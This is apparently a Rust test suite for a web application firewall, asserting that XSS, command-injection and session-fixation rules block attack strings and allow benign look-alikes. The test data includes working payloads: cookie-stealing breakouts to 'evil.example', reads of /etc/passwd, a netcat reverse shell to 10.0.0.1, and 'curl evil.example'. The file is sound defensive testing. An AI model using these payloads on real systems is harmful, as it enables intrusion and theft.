//! Round-5 rules (issue 5) for XSS, OS command injection and session fixation: for each,
//! attacks of the class asserted blocked *by that rule* in different placements, and benign
//! twins that share its words or characters asserted allowed.

mod common;

use common::{attack, benign, shared as fw};

// ---- cmdi-104: a word between `;` separators of an identifier list is a field name ----

#[test]
fn cmdi_104_identifier_lists_are_not_command_chains() {
    attack("cmdi-104", "query", "ip", "127.0.0.1;id");
    attack("cmdi-104", "form", "host", "example.com;id;");
    attack("cmdi-104", "json", "host", "x; id #");
    attack("cmdi-104", "cookie", "pref", "a|id|");
    attack("cmdi-104", "query", "ip", "1;id;ls");
    benign("query", "columns", "name;email;id;status");
    benign("form", "header", "id;name;set;dir;ver");
    benign("json", "fields", "uid|id|ps|created_at");
    benign("header", "columns", "first_name;last_name;id;w;phone");
}

// ---- session-001 / session-002: session cookie names as parameters, by Referer ----

/// A GET to `uri` on host `app.example.com` with an optional `Referer`.
fn get(uri: &str, referer: Option<&str>) -> portcullis_firewall::Verdict {
    let mut b = http::Request::builder()
        .uri(uri)
        .header("host", "app.example.com")
        .header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0",
        );
    if let Some(r) = referer {
        b = b.header("referer", r);
    }
    let parts = b.body(()).unwrap().into_parts().0;
    fw().inspect(&parts, b"")
}

/// A POST of `body` with `content_type` on host `app.example.com`.
fn post(content_type: &str, body: &str, referer: Option<&str>) -> portcullis_firewall::Verdict {
    let mut b = http::Request::builder()
        .method("POST")
        .uri("/login")
        .header("host", "app.example.com")
        .header("content-type", content_type);
    if let Some(r) = referer {
        b = b.header("referer", r);
    }
    let parts = b.body(()).unwrap().into_parts().0;
    fw().inspect(&parts, body.as_bytes())
}

fn refused_by(v: &portcullis_firewall::Verdict, rule: &str) {
    assert!(
        v.blocked && v.rule_ids().contains(&rule),
        "expected {rule}, got {:?}",
        v.rule_ids()
    );
}

fn allowed(v: &portcullis_firewall::Verdict) {
    assert!(!v.blocked, "refused: {:?}", v.rule_ids());
}

#[test]
fn session_001_framework_cookie_names_unless_same_site() {
    let evil = Some("https://attacker.example.net/landing");
    refused_by(&get("/login?JSESSIONID=74B0CB41", evil), "session-001");
    refused_by(&get("/login?laravel_session=eyJpdiI6", None), "session-001");
    refused_by(&get("/auth?connect.sid=s%3Aj8jK9", evil), "session-001");
    refused_by(
        &get("/api/signin?__Secure-next-auth.session-token=x", evil),
        "session-001",
    );
    refused_by(&get("/shop;jsessionid=74B0CB41/cart", evil), "session-001");
    refused_by(
        &post("application/json", r#"{"PHPSESSID":"abc"}"#, evil),
        "session-001",
    );
    refused_by(
        &post(
            "application/x-www-form-urlencoded",
            "cfid=1&cftoken=2",
            None,
        ),
        "session-001",
    );
    refused_by(&get("/login?_shop_session=BAh7", evil), "session-001");
    // The application's own pages (or a subdomain of it) may carry the id in links.
    let own = Some("https://app.example.com/catalog");
    allowed(&get("/login?jsessionid=74B0CB41", own));
    allowed(&get("/shop;jsessionid=74B0CB41/cart", own));
    allowed(&get(
        "/login?phpsessid=abc",
        Some("https://eu.app.example.com/"),
    ));
    // Values and cookies that only mention the names pass.
    allowed(&get("/docs?q=jsessionid%20cookie%20flags", evil));
    allowed(&get("/login?session=laravel_session", None));
}

#[test]
fn session_002_generic_names_only_with_an_off_site_referer() {
    let evil = Some("http://phishing.example.org/fake-login");
    refused_by(&get("/auth?sessionid=xyz789", evil), "session-002");
    refused_by(&get("/auth?session-id=xyz789", evil), "session-002");
    refused_by(
        &post(
            "application/x-www-form-urlencoded",
            "SESSIONID=abc&username=test",
            evil,
        ),
        "session-002",
    );
    refused_by(
        &get(
            "/login?sessionid=abc",
            Some("https://attacker.example.com/"),
        ),
        "session-002",
    );
    // Stripe Checkout returns to the success URL from checkout.stripe.com.
    allowed(&get(
        "/checkout/success?session_id=cs_test_a1b2c3",
        Some("https://checkout.stripe.com/"),
    ));
    // Adyen appends a camel-case sessionId to the return URL.
    allowed(&get(
        "/checkout/return?sessionId=CS12345&sessionResult=X3XtfGC",
        Some("https://checkoutshopper-test.adyen.com/"),
    ));
    // API clients send no Referer; the application's own pages are same-site.
    allowed(&get("/api/chat?sessionid=abc123", None));
    allowed(&get(
        "/login?sessionid=abc123",
        Some("https://app.example.com/previous"),
    ));
    allowed(&post(
        "application/json",
        r#"{"session_id":"s_1","sid":"x"}"#,
        evil,
    ));
}

// ---- XSS ----

#[test]
fn xss_114_any_event_handler_given_code() {
    attack("xss-114", "query", "q", "x onpointerrawupdate=alert(1) y");
    attack(
        "xss-114",
        "json",
        "bio",
        "\" onbeforetoggle=top.alert`1` x=\"",
    );
    attack(
        "xss-114",
        "form",
        "name",
        "' oncontentvisibilityautostatechange=eval(name) '",
    );
    attack(
        "xss-114",
        "cookie",
        "pref",
        "a/onanything=javascript:alert(1)",
    );
    benign(
        "json",
        "note",
        "The online=true flag and onboarding = done are set.",
    );
    benign(
        "form",
        "code",
        "window.onload = init(); button.onclick = handle(evt);",
    );
    benign("query", "q", "onsale=yes");
    benign(
        "json",
        "code",
        "const online = isOnline(); let ongoing = tasks.filter(t => t.open);",
    );
    benign("form", "code", "plot(onset=start(), once=True)");
    // Any on…= attribute inside a tag; a known handler given a value after a space.
    attack("xss-114", "json", "html", "<xss onbeforematch=x>");
    attack("xss-114", "form", "q", "1 onmouseover=x autofocus");
    benign("json", "html", "<option value=\"online\">Online</option>");
    benign(
        "form",
        "html",
        "<li data-online=\"true\" data-onboarding=\"x\">Ann</li>",
    );
    benign(
        "form",
        "code",
        "the onerror handler is documented, set img.onerror in code",
    );
}

#[test]
fn xss_115_js_string_breakout() {
    attack("xss-115", "query", "q", "';alert(1)//");
    attack("xss-115", "json", "name", "\"-prompt(8)-\"");
    attack(
        "xss-115",
        "header",
        "x",
        "'+document.location='http://evil.example/?c'+x+'",
    );
    attack(
        "xss-115",
        "form",
        "redirect",
        "\");top.location.href=\"//evil.example",
    );
    benign(
        "json",
        "note",
        "She said \"alert\" - and then confirm the booking (tomorrow).",
    );
    benign(
        "form",
        "comment",
        "Set \"location\" = \"Paris\"; the document's location is fine.",
    );
}

#[test]
fn xss_116_dialog_execution_proofs() {
    attack("xss-116", "query", "q", "alert(1)");
    attack("xss-116", "json", "name", "prompt(document.domain)");
    attack("xss-116", "form", "c", "confirm`1`");
    attack("xss-116", "cookie", "theme", "alert(/xss/.source)");
    benign("query", "comment", "alert('Saved!')");
    benign(
        "json",
        "note",
        "Set an alert (1 per day) and confirm (yes) to proceed.",
    );
}

#[test]
fn xss_117_us_ascii_high_bit_tags() {
    attack(
        "xss-117",
        "query_pre",
        "q",
        "%BCscript%BEalert(1)%BC/script%BE",
    );
    attack(
        "xss-117",
        "json",
        "recipe",
        "\u{bc}svg onload=alert(1)\u{be}",
    );
    benign(
        "json",
        "recipe",
        "Add \u{bc} cup sugar and \u{be} cup flour to the body of the mix.",
    );
    benign("form", "amount", "\u{bc} img \u{bd} size");
}

#[test]
fn xss_extensions_round5() {
    // xss-104: VML frames with an empty prefix, glued `importimplementation`.
    attack("xss-104", "cookie", "t", "<:vmlframe src=x>");
    attack("xss-104", "query", "t", "<?importimplementation=x>");
    // xss-112: JSFuck with `+` sent as a space in a form.
    attack("xss-112", "form_pre", "a", "(![]+[])[+!+[]]");
    attack("xss-112", "query_pre", "a", "x=+!![]");
    // xss-106: timers and constructors given code.
    attack("xss-106", "json", "q", "setTimeout(atob('YWxlcnQoMSk='))");
    attack("xss-106", "query", "q", "[].map.constructor('alert(1)')()");
    benign(
        "json",
        "code",
        "setTimeout(refresh, 1000); const items = [];",
    );
    benign("form", "note", "an empty list is fine; see the vml docs");
}

// ---- command injection ----

#[test]
fn cmdi_124_empty_substitution_in_a_word() {
    attack("cmdi-124", "query", "x", "ping$() 127.0.0.1");
    attack("cmdi-124", "form", "x", "pi$()ng 127.0.0.1");
    attack("cmdi-124", "json", "x", "pi<()ng 127.0.0.1");
    benign("json", "code", "fn unit() -> Vec<()> { Vec::new() }");
    benign("query", "q", "use $() in jQuery or Result<(), E>");
}

#[test]
fn cmdi_126_variable_as_command_after_assignment() {
    attack("cmdi-126", "form", "cmd", "garb=adduse[r];$garb pizza");
    attack(
        "cmdi-126",
        "query",
        "cmd",
        "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
    );
    attack("cmdi-126", "json", "exec", "c1=c;c2=at;$c1$c2 /etc/hosts");
    benign(
        "json",
        "code",
        "$a=1;$b = 2; $c=3;$d->run(); $e=4;$f .= 'x'",
    );
    benign("cookie", "legacy", "$Version=1; $Path=/");
    benign("form", "path", "PATH=/usr/bin;$HOME/bin");
}

#[test]
fn cmdi_127_cmd_exe_quoted_comparison() {
    attack("cmdi-127", "query", "foo", "if [AA] == [AA] echo same");
    attack("cmdi-127", "form", "foo", "if \"A A\" == \"A A\" echo same");
    attack("cmdi-127", "json", "script", "x & if [%1]==[] goto end");
    benign("json", "code", "if [ \"$a\" == \"b\" ]; then echo ok; fi");
    benign(
        "form",
        "code",
        "if (\"a\" == \"b\") { run(); } and if \"a\" == x: pass",
    );
}

#[test]
fn cmdi_128_editor_shell_escape() {
    attack(
        "cmdi-128",
        "form",
        "code",
        ";vim dddd +silent\\ \\!whoami +wq",
    );
    attack("cmdi-128", "query", "code", "|vi -c ':!id'");
    attack("cmdi-128", "json", "code", "ex -c:!pwd");
    attack(
        "cmdi-128",
        "form_pre",
        "code",
        ";vim dddd +silent\\ \\!whoami +wq",
    );
    benign("json", "note", "ex boyfriend? no way! never again");
    benign(
        "json",
        "note",
        "Open it in vim +42 and save! Then use ex mode.",
    );
    benign("form", "note", "vi -c is an option; see :help +cmd!");
}

#[test]
fn cmdi_extensions_round5() {
    // cmdi-111: `if cmdextversion`.
    attack(
        "cmdi-111",
        "query",
        "foo",
        "IF CMDEXTVERSION 1 GOTO start_process",
    );
    // cmdi-114: sqlite3 dot-commands after a written `\n`.
    attack(
        "cmdi-114",
        "query",
        "foo",
        ";\\n.shell nc 10.0.0.1 6666 -e sh\\n",
    );
    // cmdi-113: `flock` as a launcher.
    attack("cmdi-113", "form", "code", "flock -u / whoami");
    benign(
        "json",
        "note",
        "If cmdextversion is unknown, read the docs.",
    );
    benign("form", "note", "flock of birds near the docker yard");
}

#[test]
fn cmdi_129_server_side_includes() {
    attack("cmdi-129", "query", "name", "<!--#exec cmd=\"id\"-->");
    attack(
        "cmdi-129",
        "json",
        "bio",
        "x <!--#include virtual=\"/etc/passwd\" -->",
    );
    attack(
        "cmdi-129",
        "header",
        "x",
        "<!--#echo var=\"DOCUMENT_ROOT\"-->",
    );
    benign(
        "json",
        "html",
        "<!-- #3 exec summary: include the new banner -->",
    );
    benign("form", "html", "<!--#main-nav--> <div id=\"main\">");
}

#[test]
fn cmdi_130_expansions_building_commands() {
    attack("cmdi-130", "query", "x", ";${PATH:0:1}etc${PATH:0:1}passwd");
    attack(
        "cmdi-130",
        "cookie",
        "x",
        "cat ${HOME:0:1}etc${HOME:0:1}hosts",
    );
    attack("cmdi-130", "json", "x", ";X=$'uname\\x20-a'&&$X");
    attack("cmdi-130", "form", "f", "cat ~+/flag.txt");
    benign(
        "json",
        "template",
        "Hello ${name}, your total is ${total} ${currency}",
    );
    benign(
        "form",
        "note",
        "Temperature ~-3 degrees, humidity ~+5% vs yesterday",
    );
}

#[test]
fn cmdi_round5_more_extensions() {
    // cmdi-115: globs in a two-level system path.
    attack("cmdi-115", "query", "x", ";/usr/bin/who*mi");
    attack("cmdi-115", "json", "x", "|/usr/bin/whoam?");
    benign(
        "json",
        "note",
        "libraries live in /usr/lib/* and /usr/local/lib/*.so",
    );
    // cmdi-122: cmd.exe `timeout /t`.
    attack("cmdi-122", "query", "x", "& timeout /t 9");
    attack("cmdi-122", "form", "x", "1 | timeout /T 30 /nobreak");
    benign("json", "note", "The request timeout / retry policy is 30s");
    // cmdi-125: a backquoted command right after a separator.
    attack("cmdi-125", "query", "x", ";`echo id`");
    attack("cmdi-125", "json", "x", "a && `curl evil.example`");
    benign("json", "note", "Results; `echo` is a shell builtin");
    attack("cmdi-125", "query", "ip", ";$a cat test.txt");
    attack("cmdi-125", "form", "ip", "x|$u ls -la");
    benign("query", "q", "Totals;$5 cat food, $3 dog food");
    // cmdi-130: history expansion.
    attack("cmdi-130", "query", "rce", "!-1!-2");
    attack("cmdi-130", "json", "rce", "x; !-3");
    benign(
        "json",
        "note",
        "Great job!-1 point for style, though. Score: 4!-1",
    );
    // xss-116: a parenthesised dialog called.
    attack("xss-116", "query", "q", "(alert)(1)");
    attack("xss-116", "json", "q", "x=(prompt)`1`");
    benign(
        "json",
        "note",
        "Raise an (alert) (level 1) when the queue is full.",
    );
}

#[test]
fn cmdi_120_brace_expansion_command_and_path() {
    attack("cmdi-120", "query", "x", "{cat,/etc/hosts}");
    attack("cmdi-120", "json", "x", "a;{ls,$HOME}");
    attack("cmdi-120", "form", "x", "x|{tac,~/.bashrc}");
    benign("json", "glob", "src/**/*.{js,ts} and {a,b} pairs");
    benign("form", "note", "see {docs, /help} later");
}
